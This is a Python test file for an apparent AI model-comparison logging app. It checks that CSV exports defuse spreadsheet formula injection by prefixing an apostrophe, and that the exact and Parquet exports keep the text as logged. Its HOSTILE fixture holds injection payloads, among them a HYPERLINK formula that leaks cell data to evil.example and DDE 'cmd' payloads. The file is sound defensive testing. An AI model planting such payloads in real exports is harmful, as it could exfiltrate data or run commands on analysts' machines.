"""CSV exports and spreadsheet formulas: a voter's `=HYPERLINK(...)` must not run when an
analyst opens the export, and the logged text must stay recoverable exactly."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from analytics.queries import Filters, export_filtered
from app.cli import main
from app.core.store import BattleRecord, BattleStore
from app.core.store.export import FORMULA_TRIGGERS, export_battles

# What a hostile voter can type (prompt, comment) or a model can write (responses).
HOSTILE = {
    "f-eq": '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "f-plus": "+1+cmd|' /C calc'!A0",
    "f-minus": "-2+3+cmd|' /C calc'!A0",
    "f-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "f-tab": "\t=1+1",
    "f-cr": "\r=1+1",
    "f-quote": "'=already quoted",
}
TEXT_COLUMNS = ("battle_id", "prompt", "response_a", "response_b", "comment")


@pytest.fixture
def hostile_log(db_path: Path) -> Path:
    with BattleStore(db_path) as store:
        for battle_id, text in HOSTILE.items():
            store.record_battle_sync(
                BattleRecord(
                    battle_id=battle_id,
                    language="swe",
                    prompt=text,
                    model_a="MultiSynt/nemotron-cc-swedish-opus",
                    model_b="HPLT/hplt2c_swe_checkpoints",
                    family_a="multisynt",
                    family_b="hplt",
                    response_a=text,
                    response_b=" en hund som " + text,  # inside a cell: harmless, kept
                )
            )
            store.record_vote_sync(battle_id, "tie")
            store.submit_write(
                lambda con, b=battle_id, t=text: con.execute(
                    "UPDATE battles SET comment = ? WHERE battle_id = ?", [t, b]
                )
            ).result()
    return db_path


def _cells(path: Path) -> list[dict[str, str]]:
    """The raw cells, as a spreadsheet reads them (no type conversion)."""
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _export(db: Path, out: Path, *extra: str) -> None:
    result = CliRunner().invoke(
        main, ["export", "--format", "csv", "--out", str(out), "--db", str(db), *extra]
    )
    assert result.exit_code == 0, result.output


def test_csv_export_never_starts_a_cell_with_a_formula(hostile_log: Path, tmp_path: Path) -> None:
    out = tmp_path / "battles.csv"
    _export(hostile_log, out)
    rows = _cells(out)
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in TEXT_COLUMNS:
            assert row[column][:1] not in "=+-@\t\r", (column, row[column])
        logged = HOSTILE[row["battle_id"]]
        # One rule gets the logged text back: strip one leading apostrophe.
        for column in ("prompt", "response_a", "comment"):
            assert row[column] == "'" + logged
        assert row["response_b"] == " en hund som " + logged  # not at the start: as logged


def test_exact_csv_writes_the_text_as_logged(hostile_log: Path, tmp_path: Path) -> None:
    out = tmp_path / "exact.csv"
    _export(hostile_log, out, "--exact-csv")
    for row in _cells(out):
        logged = HOSTILE[row["battle_id"]]
        assert (row["prompt"], row["response_a"], row["comment"]) == (logged, logged, logged)


def test_parquet_is_always_exact(hostile_log: Path, tmp_path: Path) -> None:
    out = tmp_path / "battles.parquet"
    assert export_battles(hostile_log, out, "parquet") == len(HOSTILE)
    con = duckdb.connect()
    rows = con.execute("SELECT battle_id, prompt, comment FROM read_parquet(?)", [str(out)])
    assert {b: (p, c) for b, p, c in rows.fetchall()} == {b: (t, t) for b, t in HOSTILE.items()}
    result = CliRunner().invoke(
        main, ["export", "--format", "parquet", "--exact-csv", "--out", str(out)]
    )
    assert result.exit_code == 2 and "--exact-csv applies to --format csv" in result.output


def test_numbers_and_lists_are_left_alone(hostile_log: Path, tmp_path: Path) -> None:
    """Only text cells are guarded: a negative number stays a number."""
    with BattleStore(hostile_log) as store:
        store.submit_write(
            lambda con: con.execute("UPDATE battles SET ttft_ms_a = -1.5, flags = ['-x']")
        ).result()
    out = tmp_path / "battles.csv"
    _export(hostile_log, out)
    row = _cells(out)[0]
    assert (row["ttft_ms_a"], row["flags"]) == ("-1.5", "[-x]")


def test_the_dashboard_download_is_guarded_too(hostile_log: Path) -> None:
    with BattleStore(hostile_log) as store:
        data = store.read(lambda con: export_filtered(con, Filters(), "csv"))
    text = data.decode("utf-8")
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    assert rows and all(row["prompt"].startswith("'") for row in rows)
    assert "'" in FORMULA_TRIGGERS  # what makes stripping one apostrophe the exact way back
